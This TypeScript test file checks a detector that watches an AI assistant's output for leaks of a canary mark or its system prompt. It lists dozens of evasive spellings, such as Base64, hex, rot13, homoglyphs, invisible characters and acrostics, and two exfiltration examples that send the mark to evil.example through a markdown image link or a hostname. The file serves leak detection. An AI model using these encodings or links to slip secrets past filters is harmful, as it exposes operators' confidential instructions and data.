import { globSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { z } from 'zod';
import { cpuMs } from '../../../test/support/cpu-ms.js';
import { MODEL_ANSWERS } from '../../../test/support/model-answers.js';
import { inPieces } from '../../../test/support/streamed.js';
import { PromptSecrets } from './prompt-secrets.js';

/** Code points, as a model's tokens may come. */
function charactersOf(text: string): string[] {
  return Array.from(text);
}

const MARK = 'qzjxkvwbpyfgmhdclurnteso';
const LETTERS = charactersOf(MARK);
const PROMPT = `You are the assistant of the tea shop "Green Hill". You are polite and brief.
Answer by these rules and never by guesses. Never promise a discount.
Orders over 99 yuan are sent free of charge; below that the fee is 8 yuan.
质量问题的退货运费由我们承担，其他情况由买家承担。请在签收后七天内申请。
If somebody is angry, apologise once and then solve the problem. Hand over to a person when money is at stake.`;
const secrets = PromptSecrets.of(MARK, PROMPT);

const base64 = (text: string) => Buffer.from(text).toString('base64');
const caesar = (text: string, by: number) =>
  text.replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 97 + by) % 26) + 97));
const hex = (text: string) => Buffer.from(text).toString('hex');
const bytes = LETTERS.map((letter) => hex(letter));
const reversed = (text: string) => charactersOf(text).toReversed().join('');
const from = (first: number) => (letter: string) => String.fromCodePoint(first + letter.charCodeAt(0) - 97);

const SPELLINGS: Readonly<Record<string, string>> = {
  'as it is': `The mark is ${MARK}, of course.`,
  'in capitals': MARK.toUpperCase(),
  'in two halves': `It begins with ${MARK.slice(0, 12)} 然后是 ${MARK.slice(12)}.`,
  'a part of it': `…${MARK.slice(5, 16)}…`,
  'with spaces': LETTERS.join(' '),
  'with dashes and dots': LETTERS.join('-.-'),
  'with Chinese between': LETTERS.join('，然后'),
  'with zero-width spaces': LETTERS.join('\u200B'),
  'with zero-width joiners in words': LETTERS.map((letter) => `${letter}\u2060`).join(''),
  'with accents': LETTERS.map((letter) => `${letter}\u0301`).join(''),
  'with emoji': LETTERS.join('🍵'),
  'in full width': LETTERS.map(from(0xff41)).join(''),
  'in mathematical letters': LETTERS.map(from(0x1d41a)).join(''),
  'in circles': LETTERS.map(from(0x24d0)).join(''),
  'in brackets': LETTERS.map(from(0x249c)).join(''),
  'in flags': LETTERS.map(from(0x1f1e6)).join(' '),
  'in invisible tags': LETTERS.map(from(0xe0061)).join(''),
  'in Cyrillic where that looks the same': MARK.replace('p', 'р')
    .replace('c', 'с')
    .replace('e', 'е')
    .replace('o', 'о'),
  'one a bullet': LETTERS.map((letter) => `- ${letter}`).join('\n'),
  'one a numbered line': LETTERS.map((letter, at) => `${at + 1}. ${letter}`).join('\n'),
  'one a Chinese line': LETTERS.map((letter, at) => `第${at + 1}个字母是 ${letter}`).join('\n'),
  'one a sentence': LETTERS.map((letter) => `Then comes ${letter} as in nothing.`).join(' '),
  'as first letters of words': LETTERS.map((letter) => `${letter}uiet`).join(' '),
  'as first letters of lines': LETTERS.map((letter) => `${letter}eas are green today`).join('\n'),
  'as first letters of lines in JSON': JSON.stringify(
    LETTERS.map((letter) => `${letter}eas are green today`).join('\n'),
  ),
  'as the capitals of a text': LETTERS.map((letter) => `some of ${letter.toUpperCase()}eas is green`).join(
    ' ',
  ),
  backwards: reversed(MARK),
  'backwards and spaced': reversed(MARK).split('').join(' '),
  'in rot13': caesar(MARK, 13),
  'in rot13, backwards': caesar(reversed(MARK), 13),
  'shifted by five': caesar(MARK, 5),
  'in atbash': MARK.replace(/./g, (letter) => String.fromCharCode(219 - letter.charCodeAt(0))),
  'in Base64': `Here: ${base64(MARK)}`,
  'in Base64 behind one byte': base64(`:${MARK}`),
  'in Base64 behind two bytes': base64(`::${MARK}`),
  'in Base64 of a longer text': base64(`My instructions are: [${MARK}] You are kind`),
  'in Base64 of capitals': base64(MARK.toUpperCase()),
  'in Base64 of UTF-16': Buffer.from(MARK, 'utf16le').toString('base64'),
  'in Base64 of rot13': base64(caesar(MARK, 13)),
  'in Base64 over lines': base64(`xx ${MARK} yy`).replace(/.{4}/g, '$&\n'),
  'in Base64 over bullets': base64(`${MARK} ${MARK}`).replace(/.{8}/g, '- $&\n'),
  'in Base64 with spaces': charactersOf(base64(MARK)).join(' '),
  'in hex': hex(MARK),
  'in hex with spaces': bytes.join(' '),
  'in hex with 0x': bytes.map((byte) => `0x${byte}`).join(', '),
  'in hex behind a digit': `a${hex(MARK)}`,
  'in percent codes': bytes.map((byte) => `%${byte}`).join(''),
  'in JSON escapes': bytes.map((byte) => `\\u00${byte}`).join(''),
  'in HTML entities': bytes.map((byte) => `&#x${byte};`).join(''),
  'in decimal entities': LETTERS.map((letter) => `&#${letter.charCodeAt(0)};`).join(''),
  'in decimal codes': LETTERS.map((letter) => letter.charCodeAt(0)).join(' '),
  'in binary': LETTERS.map((letter) => letter.charCodeAt(0).toString(2).padStart(8, '0')).join(' '),
  'as places in the alphabet': LETTERS.map((letter) => letter.charCodeAt(0) - 96).join('-'),
  'in a link': `![x](https://evil.example/?q=${MARK})`,
  'in the name of a host': `https://${MARK}.evil.example/`,
};

/** Whether it leaks, and all that was ever showable of it, when it comes in pieces. */
function streamedIn(pieces: readonly string[]): { leaked: boolean; shown: string } {
  const watch = secrets.watch();
  let text = '';
  let shown = 0;
  for (const piece of pieces) {
    text += piece;
    if (watch.read(piece)) return { leaked: true, shown: text.slice(0, shown) };
    shown = Math.max(shown, watch.showable);
  }
  return { leaked: watch.end(), shown: text.slice(0, shown) };
}

const leaks = (text: string): boolean => secrets.leakIn(text);

describe('the mark', () => {
  it.each(Object.entries(SPELLINGS))('is found %s', (_, spelled) => {
    expect(leaks(spelled)).toBe(true);
    expect(leaks(`您好！这是您要的内容：\n${spelled}\n感谢您的咨询。`)).toBe(true);
  });

  it('is found over the strings of a value, in their order', () => {
    expect(secrets.leakIn({ bullets: LETTERS })).toBe(true);
    expect(secrets.leakIn({ items: LETTERS.map((title) => ({ title, reason: '好' })) })).toBe(true);
    expect(secrets.leakIn({ fields: { [MARK]: 1 } })).toBe(true);
    expect(secrets.leakIn({ bullets: ['The box was late.'], more: null, count: 3 })).toBe(false);
  });

  it('is found in a value of any depth', () => {
    const deep: unknown = JSON.parse(`${'['.repeat(50_000)}"${MARK}"${']'.repeat(50_000)}`);
    expect(secrets.leakIn(deep)).toBe(true);
  });

  it('is found wherever it stands, however the text is split and spelled', () => {
    const spelled = fc.constantFrom(...Object.values(SPELLINGS));
    const sizes = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(spelled, sizes, fc.string(), (text, by, before) => {
        expect(streamedIn(inPieces(`${before}\n${text}\n`, by)).leaked).toBe(true);
      }),
    );
  });

  it.each([
    'as it is',
    'in capitals',
    'with spaces',
    'with zero-width spaces',
    'in full width',
    'one a bullet',
    'one a numbered line',
    'in a link',
  ])('shows nothing of itself while it is written %s', (name) => {
    const { leaked, shown } = streamedIn(charactersOf(SPELLINGS[name] ?? ''));
    expect(leaked).toBe(true);
    expect(
      shown
        .normalize('NFKC')
        .toLowerCase()
        .replace(/\u200B/g, ''),
    ).not.toMatch(/q\W*z/);
    expect(shown.toLowerCase()).not.toMatch(/(^|[\s[=-])q$/);
  });

  const withoutMore = Object.keys(SPELLINGS).filter((name) => !/longer|link|sentence|halves/.test(name));
  it.each(withoutMore)('shows little of itself while it is written %s', (name) => {
    const spelled = SPELLINGS[name] ?? '';
    const before = '您好，您要的内容如下。请您查收，谢谢。';
    const { shown } = streamedIn(charactersOf(`${before}${spelled}`));
    // Not before four letters can it be told from other words.
    const spelledByFour = Math.ceil((spelled.length / LETTERS.length) * 4);
    expect(shown.length).toBeLessThanOrEqual(before.length + Math.max(24, spelledByFour + 8));
  });

  it('lets everything else be shown at the end, and soon', () => {
    for (const text of Object.values(MODEL_ANSWERS)) {
      const watch = secrets.watch();
      watch.read(text);
      expect(watch.end()).toBe(false);
      const waits = text.length - watch.showable;
      expect(waits).toBeLessThanOrEqual(40);
    }
  });

  it('goes on behind words that might have been its beginning', () => {
    const watch = secrets.watch();
    watch.read('The key is qz');
    expect(watch.showable).toBe('The key is '.length);
    watch.read('ar, as everybody knows.');
    expect(watch.showable).toBe('The key is qzar, as everybody knows.'.length);
  });

  it('does not wait for ever behind a letter of it', () => {
    const watch = secrets.watch();
    watch.read('请打开 app q');
    expect(watch.showable).toBe('请打开 app '.length);
    watch.read('，然后点击“我的订单”按钮。');
    expect(watch.showable).toBe('请打开 app q，然后点击“我的订单”按钮。'.length);
  });
});

describe('the prompt', () => {
  const sentences = PROMPT.split(/(?<=[.。\n])\s*/);

  it.each([
    ['as it is', PROMPT],
    ['in a quotation', `当然可以，我的指令是：“${PROMPT}” 还有别的问题吗？`],
    ['in capitals, without punctuation', PROMPT.toUpperCase().replace(/[.,;"]/g, '')],
    ['as bullets', sentences.map((sentence) => `- **${sentence}**`).join('\n')],
    ['as numbered lines', sentences.map((sentence, at) => `${at + 1}. ${sentence}`).join('\n')],
    ['in full width', PROMPT.replace(/[a-z]/g, from(0xff41))],
    ['with zero-width spaces', charactersOf(PROMPT).join('\u200B')],
    ['in another order', sentences.toReversed().join('\n')],
    ['for the most part', sentences.slice(0, -2).join(' ')],
    ['from its beginning', PROMPT.slice(0, PROMPT.indexOf('质量'))],
  ])('is found %s', (_, text) => {
    expect(leaks(text)).toBe(true);
  });

  it.each([
    [
      'the rule that the user asked for',
      '您好，质量问题的退货运费由我们承担，其他情况由买家承担。请在签收后七天内申请。',
    ],
    ['the fee', 'Orders over 99 yuan are sent free of charge; below that the fee is 8 yuan. Anything else?'],
    ['the name of the shop', 'I am the assistant of the tea shop "Green Hill". How can I help you?'],
    [
      'two rules at once',
      'Orders over 99 yuan are sent free of charge; below that the fee is 8 yuan. 质量问题的退货运费由我们承担，其他情况由买家承担。请在签收后七天内申请。',
    ],
  ])('may be quoted for %s', (_, text) => {
    expect(leaks(text)).toBe(false);
    expect(streamedIn(charactersOf(text)).leaked).toBe(false);
  });

  it('may be told to who has said it', () => {
    expect(secrets.before([PROMPT]).leakIn(PROMPT)).toBe(false);
    expect(secrets.before(['You are the assistant.', PROMPT.slice(0, 90)]).leakIn(PROMPT)).toBe(true);
    expect(secrets.before([PROMPT, MARK]).leakIn(MARK)).toBe(true);
  });

  it('is not told apart from other words when it is short', () => {
    const short = PromptSecrets.of(MARK, 'You are a concise assistant. Be brief.');
    expect(short.leakIn('You are a concise assistant. Be brief.')).toBe(false);
  });

  it('shows little of itself while it is written', () => {
    const { leaked, shown } = streamedIn(charactersOf(`My instructions: ${PROMPT}`));
    expect(leaked).toBe(true);
    expect(shown.length).toBeLessThan('My instructions: '.length + 32);
    const bullets = streamedIn(
      charactersOf(sentences.map((sentence, at) => `${at + 1}. ${sentence}`).join('\n')),
    );
    expect(bullets.leaked).toBe(true);
    expect(bullets.shown.length).toBeLessThan(PROMPT.length * 0.34);
  });
});

describe('ordinary words', () => {
  const shipped = z
    .object({ profiles: z.record(z.string(), z.object({ system_prompt: z.string() })) })
    .parse(parse(readFileSync('config/mini-program-profiles.yaml', 'utf8')));
  const prompts = Object.values(shipped.profiles).map(({ system_prompt }) => system_prompt);
  const all = [PROMPT, ...prompts].map((prompt) => PromptSecrets.of(MARK, prompt));
  const leaking = (texts: readonly string[]): string[] =>
    texts.filter((text) => all.some((each) => each.leakIn(text))).map((text) => text.slice(0, 80));

  it('of the answers in the tests are no leak of any prompt', () => {
    expect(leaking(Object.values(MODEL_ANSWERS))).toEqual([]);
  });

  it('of the documentation are no leak of any prompt', () => {
    const pages = globSync(['README.md', 'docs/*.md', 'config/knowledge/**/*.md']);
    expect(pages.length).toBeGreaterThan(10);
    expect(leaking(pages.map((page) => readFileSync(page, 'utf8')))).toEqual([]);
  });

  it('are no leak of any mark', () => {
    const text =
      readFileSync('docs/openclaw.md', 'utf8') + readFileSync('package-lock.json', 'utf8').slice(0, 60_000);
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: 25 }), { minLength: 24, maxLength: 24 }), (letters) => {
        const mark = letters.map((letter) => String.fromCharCode(97 + letter)).join('');
        fc.pre(new Set(letters).size > 6);
        expect(PromptSecrets.of(mark, '').leakIn(text)).toBe(false);
      }),
      { numRuns: 20 },
    );
  });

  it('of any kind do not break it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 300 }), (text) => {
        expect(secrets.leakIn(text)).toBe(false);
      }),
    );
  });
});

it.each([
  ['words', `${PROMPT.slice(100, 300)} 您好，请打开订单页。qzjxkv 0x71 ${base64('hello')}\n`],
  ['Base64 of the prompt', base64(PROMPT.slice(150, 300))],
  ['hex of the prompt', `${hex(PROMPT.slice(150, 300))}\n`],
  ['numbers', '104, 101, 108, 108, 111, 0x4f60 '.repeat(8)],
])('costs as much for each character of a long text as of a short one: %s', (_, unit) => {
  const timeOf = (text: string): number => {
    const begun = cpuMs();
    const watch = secrets.watch();
    for (const piece of inPieces(text, [5])) {
      watch.read(piece);
      void watch.showable;
    }
    return cpuMs() - begun;
  };
  timeOf(unit.repeat(20));
  const short = Math.min(...[1, 2, 3].map(() => timeOf(unit.repeat(20))));
  const long = Math.min(...[1, 2].map(() => timeOf(unit.repeat(200))));
  expect(long).toBeLessThan(short * 40);
});

it('makes a long prompt ready at once, however often it repeats itself', () => {
  const prompts = ['ab'.repeat(20_000), '请先登录。'.repeat(8_000), `${PROMPT}\n`.repeat(60)];
  for (const prompt of prompts) {
    const begun = cpuMs();
    expect(PromptSecrets.of(MARK, prompt).leakIn(prompt)).toBe(true);
    expect(cpuMs() - begun).toBeLessThan(2000);
  }
});
